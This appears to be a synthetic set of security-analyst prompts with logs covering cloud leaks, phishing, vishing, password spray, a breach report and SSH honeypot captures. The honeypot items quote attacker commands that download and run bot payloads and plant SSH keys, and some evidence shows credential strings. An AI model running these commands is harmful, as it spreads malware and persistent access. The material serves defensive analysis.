Firepower Extensible Operating System Version 2.12(1.73)
Serial Number: JAD2421@@uhex:t088sn:4@@
Note: the key line shows ***** because "password encryption aes" is enabled; the master passphrase is stored in our vault, not on the box. Advisory cisco-sa-asaftd-ravpn-auth-8LyfCkeC (CVE-2024-20481) applies to 9.18 below 9.18(4)40.

### h25-089
A public bucket leaked an AWS credentials file. S3 server access logs show who downloaded it. Please tell me (1) which keys to deactivate, (2) whether anyone other than the researcher who reported it fetched the file, and (3) what to search for in CloudTrail.

S3 server access log (bucket kvr-build-artifacts, trimmed):
@@hex:t089own:64@@ kvr-build-artifacts [14/Jun/2025:18:02:11 +0000] [[IP_ADDRESS|@@ip:t089a@@]] - @@uhex:t089r1:16@@ REST.GET.BUCKET - "GET /?list-type=2&prefix=backups%2F HTTP/1.1" 200 - 4118 - 41 40 "-" "python-requests/2.32.3" - @@b64:t089h1:56@@ - - - kvr-build-artifacts.s3.eu-west-1.amazonaws.com TLSv1.3 - -
@@hex:t089own:64@@ kvr-build-artifacts [14/Jun/2025:18:02:13 +0000] [[IP_ADDRESS|@@ip:t089a@@]] - @@uhex:t089r2:16@@ REST.GET.OBJECT backups/ci-runner/.aws/credentials "GET /backups/ci-runner/.aws/credentials HTTP/1.1" 200 - 1187 1187 18 17 "-" "python-requests/2.32.3" - @@b64:t089h2:56@@ - - - kvr-build-artifacts.s3.eu-west-1.amazonaws.com TLSv1.3 - -
@@hex:t089own:64@@ kvr-build-artifacts [15/Jun/2025:09:40:51 +0000] [[IP_ADDRESS|@@ip:t089b@@]] - @@uhex:t089r3:16@@ REST.GET.OBJECT backups/ci-runner/.aws/credentials "GET /backups/ci-runner/.aws/credentials HTTP/1.1" 200 - 1187 1187 22 21 "-" "curl/8.5.0" - @@b64:t089h3:56@@ - - - kvr-build-artifacts.s3.eu-west-1.amazonaws.com TLSv1.3 - -

The file (1,187 bytes):
[default]
aws_access_key_id = [[SECRET|@@akia:t089k1@@]]
aws_secret_access_key = [[SECRET|@@awssecret:t089k2@@]]
region = eu-west-1

[deploy-temp]
aws_access_key_id = [[SECRET|@@asia:t089k3@@]]
aws_secret_access_key = [[SECRET|@@awssecret:t089k4@@]]
aws_session_token = [[SECRET|IQoJb3JpZ2luX2VjE@@b64:t089st:210@@]]

The researcher (report via our security.txt on 15 Jun, 10:02) says they downloaded it once, from [[IP_ADDRESS|@@ip:t089b@@]]. The 14 Jun download is not theirs. Bucket policy had "Principal": "*" for s3:GetObject since a Terraform change on 2025-06-02 (PR #912).

### h25-090
After the bucket incident we want guardrails. Can you review this bucket policy and the account-level settings and tell me if any public path remains?

$ aws s3api get-public-access-block --bucket kvr-build-artifacts
{"PublicAccessBlockConfiguration": {"BlockPublicAcls": true, "IgnorePublicAcls": true, "BlockPublicPolicy": true, "RestrictPublicBuckets": true}}
$ aws s3control get-public-access-block --account-id 551908237614
{"PublicAccessBlockConfiguration": {"BlockPublicAcls": true, "IgnorePublicAcls": true, "BlockPublicPolicy": true, "RestrictPublicBuckets": true}}
$ aws s3api get-bucket-policy --bucket kvr-build-artifacts --query Policy --output text | jq .
{
  "Version": "2012-10-17",
  "Statement": [
    {"Sid": "DenyOutsideOrg", "Effect": "Deny", "Principal": "*", "Action": "s3:*",
     "Resource": ["arn:aws:s3:::kvr-build-artifacts", "arn:aws:s3:::kvr-build-artifacts/*"],
     "Condition": {"StringNotEquals": {"aws:PrincipalOrgID": "o-7k2xq91vbd"}, "Bool": {"aws:PrincipalIsAWSService": "false"}}},
    {"Sid": "DenyInsecureTransport", "Effect": "Deny", "Principal": "*", "Action": "s3:*",
     "Resource": ["arn:aws:s3:::kvr-build-artifacts", "arn:aws:s3:::kvr-build-artifacts/*"],
     "Condition": {"Bool": {"aws:SecureTransport": "false"}}},
    {"Sid": "AllowCIFromRunnerSubnets", "Effect": "Allow",
     "Principal": {"AWS": "arn:aws:iam::551908237614:role/ci-runner"}, "Action": ["s3:GetObject", "s3:PutObject"],
     "Resource": "arn:aws:s3:::kvr-build-artifacts/*",
     "Condition": {"IpAddress": {"aws:SourceIp": ["10.64.0.0/18"]}, "StringEquals": {"s3:x-amz-server-side-encryption-aws-kms-key-id": "arn:aws:kms:eu-west-1:551908237614:key/@@uuid:t090kms@@"}}}
  ]
}
Macie job @@hex:t090job:32@@ (2025-06-16): 18,204 objects scanned, 0 findings of type SensitiveData:S3Object/Credentials after the cleanup; 3 findings before (all in backups/, deleted, versions purged with lifecycle rule "purge-noncurrent-1d").
SCP "deny-s3-public" (p-@@lower:t090scp:8@@) attached to the Workloads OU.

### h25-091
Message trace for the "DocuSign" phishing wave this morning (exported from Exchange Online). Which recipients clicked through our URL rewriting, and which ones do I need to contact? The sender IPs are the part I need for the block list.

"Received","SenderAddress","RecipientAddress","Subject","Status","FromIP","MessageId"
"2025-06-17T07:41:02Z","[[EMAIL|docs@esign-notify-center.com]]","[[EMAIL|h.ngata@rangiora-build.co.nz]]","Completed: Please DocuSign - Q2 Subcontract.pdf","Delivered","[[IP_ADDRESS|@@ip:t091a@@]]","<@@hex:t091m1:24@@@esign-notify-center.com>"
"2025-06-17T07:41:04Z","[[EMAIL|docs@esign-notify-center.com]]","[[EMAIL|w.tane@rangiora-build.co.nz]]","Completed: Please DocuSign - Q2 Subcontract.pdf","Delivered","[[IP_ADDRESS|@@ip:t091a@@]]","<@@hex:t091m2:24@@@esign-notify-center.com>"
"2025-06-17T07:43:19Z","[[EMAIL|docs@esign-notify-center.com]]","[[EMAIL|accounts@rangiora-build.co.nz]]","Completed: Please DocuSign - Q2 Subcontract.pdf","Quarantined","[[IP_ADDRESS|@@ip:t091b@@]]","<@@hex:t091m3:24@@@esign-notify-center.com>"
"2025-06-17T07:44:51Z","[[EMAIL|no-reply@esign-notify-centre.net]]","[[EMAIL|p.fifita@rangiora-build.co.nz]]","Reminder: document awaiting signature","Delivered","[[IP_ADDRESS|@@ip6:t091c@@]]","<@@hex:t091m4:24@@@esign-notify-centre.net>"

Safe Links click report (same window):
"ClickTime","UserId","URL","Action","IPAddress"
"2025-06-17T07:49:12Z","[[EMAIL|w.tane@rangiora-build.co.nz]]","https://esign-notify-center.com/envelope/@@uuid:t091env@@","Allowed","[[IP_ADDRESS|@@ip:t091d@@]]"
"2025-06-17T08:02:40Z","[[EMAIL|h.ngata@rangiora-build.co.nz]]","https://esign-notify-center.com/envelope/@@uuid:t091env2@@","Blocked","[[IP_ADDRESS|@@ip:t091d@@]]"

The click address is our office NAT. Detonation verdict for the URL arrived at 07:55, after Wiremu's click.

### h25-092
We're adding transport rules against e-signature lures. Can you check the logic of these rules and tell me whether the SCL and priority values make sense together?

PS> Get-TransportRule | Where-Object Name -like "ESIG*" | Format-List Name,Priority,State,Mode,SenderDomainIs,SubjectOrBodyContainsWords,SetSCL,PrependSubject,ExceptIfSenderDomainIs,Guid

Name                       : ESIG-01 Block lookalike e-signature domains
Priority                   : 0
State                      : Enabled
Mode                       : Enforce
SenderDomainIs             : {esign-notify-center.com, esign-notify-centre.net, docusign-secure-mail.com}
SetSCL                     : 9
Guid                       : @@uuid:t092g1@@

Name                       : ESIG-02 Tag external e-signature lures
Priority                   : 1
State                      : Enabled
Mode                       : AuditAndNotify
SubjectOrBodyContainsWords : {Please DocuSign, awaiting signature, Adobe Sign, review and sign}
ExceptIfSenderDomainIs     : {docusign.net, echosign.com, adobesign.com}
PrependSubject             : [EXTERNAL SIGNATURE REQUEST]
SetSCL                     : 5
Guid                       : @@uuid:t092g2@@

Message trace summary for the last 7 days (Get-MessageTraceV2 aggregated by rule):
Rule       Matches   Delivered   Quarantined   FalsePositiveReports
ESIG-01        214           0           214                      0
ESIG-02      1,118       1,118             0                     17
Quarantine retention 30 days; the tenant's anti-phish policy "Strict Preset" has SCL threshold 5 for junk and 9 for quarantine; EOP build 15.20.7677.26.

### h25-093
Vishing attempt on the IT service desk yesterday, partly successful. Here are the call notes from the agent. I need a short incident summary and a list of what to undo.

Ticket SD-2025-061604 | Agent: Corinne Mbeki | Call received 16:42 on the service desk line
Caller claimed to be Gabriel Noor (Head of Treasury) "travelling, lost phone, needs MFA reset before a payment run".
- Caller ID displayed: [[PHONE|@@phone:t093p1:GB:m:intl@@]] (not the number in Gabriel's HR record, which is [[PHONE|@@phone:t093p2:GB:m:intl@@]]).
- Verification: caller gave employee number 40417 and his manager's name (both visible on LinkedIn / org chart). Agent did not use the callback procedure.
- 16:49 agent removed registered MFA methods for [[EMAIL|g.noor@penhallow-shipping.co.uk]] and set temporary password [[SECRET|Penhallow-Kite-8823]] (read out on the call).
- 16:51 caller asked to send the password reset confirmation to "my personal address" [[EMAIL|gabriel.noor.uk@proton.me]]; agent sent it.
- 16:55 sign-in from [[IP_ADDRESS|@@ip:t093a@@]], new Authenticator registered, then mailbox searches for "SWIFT", "IBAN", "payment run".
- 17:20 the real Gabriel called from his mobile: he never asked for a reset. Account disabled 17:24.
Caller's voice was "calm, British accent, background noise like an office". Call recording ref REC-20250616-164212.

### h25-094
Please review our service desk identity verification standard. It was rewritten after a social engineering incident; does it close the gaps?

Standard SD-SEC-04 - Verifying callers before credential or MFA changes (v2.0, effective 2025-07-01)
1. Never act on caller ID. Caller ID can be spoofed; treat every inbound number as unverified.
2. For password resets, MFA resets, new device registration and changes to recovery e-mail or phone: end the call and call back on the number stored in the HR system (Workday field "Work Mobile"), never on a number given during the call.
3. If the callback fails, the user's line manager must approve in the ITSM tool (approval type MGR-VERIFY) before any change.
4. Temporary passwords are never read out on a call; the user sets a password through the self-service portal after the callback (Temporary Access Pass lifetime 60 minutes, one-time use).
5. Confirmations are sent only to the corporate mailbox; no personal e-mail addresses.
6. VIP list (executives, treasury, payroll, IT admins): resets require a video call with camera on plus callback, and a second agent as witness. VIP flag maintained in group "SD-VIP" (object id @@uuid:t094grp@@).
7. Every exception is logged with reason code EXC-01 … EXC-06 and reviewed weekly by the service desk lead.
Metrics target: 100% callback compliance in monthly sampling (n = 50 tickets); mystery-shopper calls by the red team quarterly (next: Q3 2025, scenario library v1.3).

### h25-095
Entra ID sign-in log export (CSV) for the password spray last night. Can you group by source and tell me which accounts actually succeeded? Error 50126 = bad password, 50053 = smart lockout, 0 = success.

Date (UTC),Request ID,User,Username,Application,Status,Sign-in error code,IP address,Location,Client app
2025-06-17T01:12:04Z,@@uuid:t095r1@@,Aroha Tipene,[[EMAIL|a.tipene@rangiora-build.co.nz]],OfficeHome,Failure,50126,[[IP_ADDRESS|@@ip:t095a@@]],"Frankfurt am Main, Hessen, DE",Browser
2025-06-17T01:12:05Z,@@uuid:t095r2@@,Sione Fifita,[[EMAIL|s.fifita@rangiora-build.co.nz]],OfficeHome,Failure,50126,[[IP_ADDRESS|@@ip:t095a@@]],"Frankfurt am Main, Hessen, DE",Browser
2025-06-17T01:12:05Z,@@uuid:t095r3@@,Mere Walker,[[EMAIL|m.walker@rangiora-build.co.nz]],OfficeHome,Failure,50053,[[IP_ADDRESS|@@ip:t095b@@]],"Amsterdam, Noord-Holland, NL",Browser
2025-06-17T01:14:40Z,@@uuid:t095r4@@,Liam Howard,[[EMAIL|l.howard@rangiora-build.co.nz]],Azure Active Directory PowerShell,Success,0,[[IP_ADDRESS|@@ip6:t095c@@]],"Ashburn, Virginia, US",Mobile Apps and Desktop clients
2025-06-17T01:15:02Z,@@uuid:t095r5@@,Liam Howard,[[EMAIL|l.howard@rangiora-build.co.nz]],Microsoft Graph,Success,0,[[IP_ADDRESS|@@ip6:t095c@@]],"Ashburn, Virginia, US",Mobile Apps and Desktop clients
2025-06-17T01:20:31Z,@@uuid:t095r6@@,Aroha Tipene,[[EMAIL|a.tipene@rangiora-build.co.nz]],OfficeHome,Failure,50053,[[IP_ADDRESS|@@ip:t095a@@]],"Frankfurt am Main, Hessen, DE",Browser
(1,904 more failure rows from 41 addresses; 3 more successes, all for l.howard)

Liam's account is a break-glass-style admin that was excluded from Conditional Access "for emergencies". Correlation id @@uuid:t095corr@@.

### h25-096
Here's our Conditional Access export after the spray. Are there still gaps, especially around the excluded emergency accounts?

{"displayName":"CA001 - Require MFA for all users","state":"enabled","id":"@@uuid:t096p1@@",
 "conditions":{"users":{"includeUsers":["All"],"excludeUsers":["@@uuid:t096bg1@@","@@uuid:t096bg2@@"],"excludeGroups":[]},
  "applications":{"includeApplications":["All"]},"clientAppTypes":["all"]},
 "grantControls":{"operator":"OR","builtInControls":["mfa"],"authenticationStrength":null}}
{"displayName":"CA002 - Block legacy authentication","state":"enabled","id":"@@uuid:t096p2@@",
 "conditions":{"users":{"includeUsers":["All"]},"clientAppTypes":["exchangeActiveSync","other"]},
 "grantControls":{"operator":"OR","builtInControls":["block"]}}
{"displayName":"CA003 - Emergency accounts only from trusted locations","state":"enabledForReportingButNotEnforced","id":"@@uuid:t096p3@@",
 "conditions":{"users":{"includeUsers":["@@uuid:t096bg1@@","@@uuid:t096bg2@@"]},
  "locations":{"includeLocations":["All"],"excludeLocations":["@@uuid:t096loc@@"]}},
 "grantControls":{"operator":"OR","builtInControls":["block"]}}
Named location @@uuid:t096loc@@ "Auckland office": ipRanges ["202.36.178.0/24", "2404:4400:a00::/48"], isTrusted true.
The two excluded object ids are the break-glass accounts (FIDO2 keys in the safe, sign-in alerts to the SOC via Sentinel rule id @@uuid:t096rule@@). Role assignments checked with Get-MgRoleManagementDirectoryRoleAssignment: 2 permanent Global Administrators (the break-glass accounts), 6 eligible via PIM, activation max 4 h.

### h25-097
This is the draft final report for last month's breach. It's long, sorry. Can you (1) check that the timeline is consistent with the evidence excerpts, (2) rewrite the executive summary for a non-technical board, and (3) list any credential in the evidence that we haven't said we rotated?

INCIDENT REPORT IR-2025-014 - Unauthorised access to customer API via leaked CI token (DRAFT v0.9)

1. Executive summary (draft)
Between 19 and 23 May 2025 an external actor used a GitHub personal access token exposed in a public CI log to clone two private repositories of Fernleaf Payments. One repository contained production configuration with the database credentials and the JWT signing secret of the customer API. The actor forged administrator tokens and exported the contact details of 48,211 merchants. No card data is stored in the affected systems.

2. Timeline (UTC)
2025-05-17 14:02 A debug step in workflow "release.yml" of the public repo fernleaf/sdk-python prints the environment; the run log is public.
2025-05-19 03:11 First clone of fernleaf/platform-config from [[IP_ADDRESS|@@ip:t097a@@]] using the token.
2025-05-19 03:40 Clone of fernleaf/ledger-api from [[IP_ADDRESS|@@ip:t097a@@]].
2025-05-21 22:18 First request to api.fernleaf.io with a forged admin JWT from [[IP_ADDRESS|@@ip6:t097b@@]].
2025-05-21 22:18 - 05-23 01:47 GET /v2/admin/merchants?page=1..4822 (48,211 records) from [[IP_ADDRESS|@@ip6:t097b@@]] and [[IP_ADDRESS|@@ip:t097c@@]].
2025-05-23 09:30 Merchant support receives a phishing complaint quoting merchant data; investigation starts.
2025-05-23 11:05 Token revoked, JWT secret rotated, database password rotated, API admin routes restricted to the VPN.

3. Evidence excerpts
3.1 Public CI log, run 9120448811, step "Debug env":
GH_TOKEN=[[SECRET|@@ghp:t097pat@@]]
REMOTE=[[URL_CREDENTIALS|https://x-access-token:@@ghp:t097pat@@@github.com/fernleaf/platform-config.git]]
3.2 platform-config/config/production.yml (commit @@hex:t097c1:40@@):
database_url: [[URL_CREDENTIALS|postgres://ledger_rw:Fl-Ledger-2024!x@10.44.3.17:5432/ledger?sslmode=require]]
jwt_secret: [[SECRET|@@hex:t097jwtkey:64@@]]
sentry_dsn: https://@@hex:t097dsn:32@@@o4507118.ingest.de.sentry.io/4507118204
redis_url: redis://[[IP_ADDRESS|10.44.3.30]]:6379/2
3.3 API gateway log, first forged request:
2025-05-21T22:18:40Z client=[[IP_ADDRESS|@@ip6:t097b@@]] method=GET path=/v2/admin/merchants?page=1 status=200 auth="Bearer [[JWT|@@jwt:t097forged:HS256@@]]" ua="python-httpx/0.27.0" bytes=118204
3.4 Phishing complaint (forwarded by merchant [[EMAIL|orders@tuihill-ceramics.co.nz]]): the e-mail came from [[EMAIL|billing@fernleaf-payments-support.com]] and quoted the merchant's account id and payout schedule.

4. Affected data
Merchant business name, contact name, contact e-mail, contact phone, payout schedule, account id. Not affected: bank account numbers (stored in a separate vault service), card data, passwords (bcrypt, not in the export).

5. Notifications
Privacy Commissioner notified 2025-05-26 (ref. NB-2025-0412). Contact for the regulator: Hannah Whitlock, DPO, [[EMAIL|privacy@fernleaf.io]], [[PHONE|@@phone:t097p:NZ:m:intl@@]].

6. Rotations done: GitHub token (revoked 05-23 11:05), JWT secret, ledger_rw password. Host [[IP_ADDRESS|10.44.3.17]] is the primary of the ledger cluster; the Redis instance at [[IP_ADDRESS|10.44.3.30]] has no password (flagged as a separate finding).

### h25-098
Here's a post-mortem for an outage (no security impact). Can you check the timeline is consistent, tighten the "contributing factors" section and suggest better action items? It's long.

POST-MORTEM PM-2025-022 - Checkout API degraded for 47 minutes after connection-pool exhaustion

Summary
On 2025-06-10 between 09:12 and 09:59 UTC the checkout API returned HTTP 503 for 31% of requests. A configuration change lowered the database connection pool from 40 to 10 per pod during a routine Helm upgrade (chart fernleaf-checkout 4.12.0 → 4.13.0). Traffic peaked at 2,900 requests/s. About 14,200 checkouts failed; 9,870 were retried successfully by clients.

Timeline (UTC)
09:05 Helm release 118 applied by the deploy pipeline (run 48211903, commit 7e41c2b9d0f3a8e6b1c5d2f4a9e0b7c3d6f1a2e8).
09:12 p99 latency rises from 180 ms to 4.1 s; pool wait time alert (threshold 500 ms) fires on 6 of 12 pods.
09:14 PagerDuty incident PXT41Q9 paged the on-call; acknowledged at 09:16.
09:25 On-call suspects the database; RDS metrics normal (CPU 22%, 188 of 1,000 connections).
09:41 Diff of the rendered manifests shows DB_POOL_MAX changed from "40" to "10": the new chart version renamed the value key from db.pool.max to database.pool.maxConnections, so our override was ignored and the chart default applied.
09:48 Rollback to Helm release 117 (chart 4.12.0); pods restart over 6 minutes (maxUnavailable 2).
09:59 Error rate back under 0.1%; incident resolved at 10:10 after 10 minutes of observation.

Contributing factors
- The chart's changelog listed the key rename under "Internal" instead of "Breaking".
- helm diff was run in the pipeline but its output (212 lines) is not reviewed for value changes.
- Readiness probes do not check pool health; pods stayed in rotation.
- The pool alert routes to a low-urgency service between 09:00 and 18:00.

Metrics
Requests: 8.2 M in the window; 503s: 2.54 M; p50 latency 95 ms → 1.9 s; DB connections per pod 10 (expected 40); CPU per pod 31%.
Error budget: 99.9% monthly SLO; this incident consumed 68% of June's budget (29.2 of 43.2 minutes).

Action items
AI-1 Add a schema (values.schema.json) to our overrides so unknown keys fail the render (owner: platform, due 2025-06-30).
AI-2 Add a contract test asserting DB_POOL_MAX in rendered manifests (owner: checkout team).
AI-3 Make the readiness probe fail when pool wait exceeds 2 s for 30 s.
AI-4 Route pool-wait alerts to high urgency.
AI-5 Pin chart minor versions; upgrades via a dedicated PR with helm diff attached.
Related: INC-48213 (2025-06-02, unrelated cert rotation), PRB-0917. Config references stay as they are: the DB password comes from secretKeyRef checkout-db/password and the API key from ${STRIPE_API_KEY} injected at runtime, neither appears in the chart.

### h25-099
Our Cowrie honeypot caught a session that downloaded a bot with an FTP fallback. Can you explain the attack chain and give me IOCs for the block list? (Attempted logins are the usual dictionary stuff.)

{"eventid":"cowrie.session.connect","src_ip":"[[IP_ADDRESS|@@ip:t099a@@]]","src_port":48213,"dst_ip":"[[IP_ADDRESS|10.99.0.5]]","dst_port":22,"session":"@@hex:t099s:12@@","protocol":"ssh","timestamp":"2025-06-17T04:11:02.118204Z"}
{"eventid":"cowrie.client.version","version":"SSH-2.0-Go","session":"@@hex:t099s:12@@"}
{"eventid":"cowrie.client.kex","hassh":"@@hex:t099hassh:32@@","hasshAlgorithms":"curve25519-sha256@libssh.org,ecdh-sha2-nistp256;aes128-gcm@openssh.com,aes128-ctr;hmac-sha2-256;none","session":"@@hex:t099s:12@@"}
{"eventid":"cowrie.login.failed","username":"admin","password":"admin123","session":"@@hex:t099s:12@@"}
{"eventid":"cowrie.login.failed","username":"ubnt","password":"ubnt","session":"@@hex:t099s:12@@"}
{"eventid":"cowrie.login.success","username":"root","password":"123456","session":"@@hex:t099s:12@@"}
{"eventid":"cowrie.command.input","input":"cd /tmp || cd /var/run; wget http://[[IP_ADDRESS|@@ip:t099b@@]]/bins.sh; chmod 777 bins.sh; sh bins.sh","session":"@@hex:t099s:12@@"}
{"eventid":"cowrie.session.file_download","url":"http://[[IP_ADDRESS|@@ip:t099b@@]]/bins.sh","shasum":"@@hex:t099h1:64@@","outfile":"var/lib/cowrie/downloads/@@hex:t099h1:64@@","session":"@@hex:t099s:12@@"}
{"eventid":"cowrie.command.input","input":"busybox ftpget -u upl0ad -p [[SECRET|b0tn3t-F7p-22]] [[IP_ADDRESS|@@ip:t099c@@]] x86 x86 || wget [[URL_CREDENTIALS|ftp://upl0ad:b0tn3t-F7p-22@@@ip:t099c@@/x86]]","session":"@@hex:t099s:12@@"}
{"eventid":"cowrie.command.input","input":"echo \"@@sshpub:t099pub@@ mdrfckr\" >> ~/.ssh/authorized_keys; chattr +i ~/.ssh/authorized_keys","session":"@@hex:t099s:12@@"}
{"eventid":"cowrie.session.closed","duration":41.9,"session":"@@hex:t099s:12@@"}

bins.sh (downloaded, first lines): wget http://[[IP_ADDRESS|@@ip:t099b@@]]/x86 -O .x; chmod +x .x; ./.x ssh.worm; for arch in arm arm7 mips mpsl; do wget http://[[IP_ADDRESS|@@ip:t099b@@]]/$arch; done

My draft block list so far (defanged for the ticket): [[IP_ADDRESS|@@dfl:t099b@@]] (stager, hxxp://[[IP_ADDRESS|@@dfl:t099b@@]]/bins.sh), [[IP_ADDRESS|@@dfa:t099c@@]] (FTP drop), [[IP_ADDRESS|@@dfl:t099a@@]] (scanner, probably a compromised router, so maybe only a 30-day block).

### h25-100
Weekly summary from our SSH honeypots. Can you turn it into three takeaways for the team channel? Raw numbers below.

Period 2025-06-09 → 2025-06-15, 4 sensors (Cowrie 2.5.0), 118,402 sessions, 6,904 unique sources (source addresses are kept in the sensor DB, not in this summary).
Top source ASNs: AS14061 (18.2%), AS4134 (11.7%), AS16276 (9.4%), AS45090 (6.1%), AS63949 (4.8%)
Top usernames tried: root (61%), admin (9%), ubnt (3%), user (2%), oracle (2%), pi (1%)
Top passwords tried (all public dictionary entries): 123456, admin, password, root, 12345678, 1qaz2wsx, P@ssw0rd, raspberry
Successful logins (honeypot accepts root with any password except "root"): 41,220 sessions
Top commands after login:
  uname -a; nproc; cat /proc/cpuinfo | grep name | head -n 1 (28,114)
  echo "ssh-rsa AAAAB3NzaC1yc2EAAAABJQAAAQEArDp4cun2lhr4KUhBGE7VvAcwdli2a8dbnrTOrbMz1+5O73fcBOx8NVbUT0bUanUV9tJ2/9p7+vD0EpZ3Tz/+0kX34uAx1RV/75GVOmNx+9EuWOnvNoaJe0QXxziIg9eLBHpgLMuakb5+BgTFB+rKJAw9u9FSTDengvS8hX1kNFS4Mjux0hJOK8rvcEmPecjdySYMb66nylAKGwCEE6WEQHmd1mUPgHwGQ0hWCwsQk13yCGPK5w6hYp5zYkFnvlC8hGmd4Ww+u97k6pfTGTUbJk14ujvcD9iUKQTTWYYjIIu5PmUux5bsZ0R4WFwdIe6+i6rBLAsPKgAySVKPRK+oRw== mdrfckr" >> .ssh/authorized_keys (9,377)
  cd /tmp; wget http://<stager>/bins.sh; sh bins.sh (3,118)
New file hashes (SHA256, first seen this week): @@hex:t100h1:64@@ (Mirai variant, 14 sensors-days), @@hex:t100h2:64@@ (XMRig 6.21.3 UPX-packed), @@hex:t100h3:64@@ (shell dropper)
Top HASSH: @@hex:t100hs1:32@@ (Go x/crypto/ssh, 71%), @@hex:t100hs2:32@@ (libssh 0.9.6, 12%)
Sensor uptime 99.2%; sensor-3 was down 2025-06-12 02:00-03:20 for an OS upgrade (kernel 6.1.0-21-amd64).
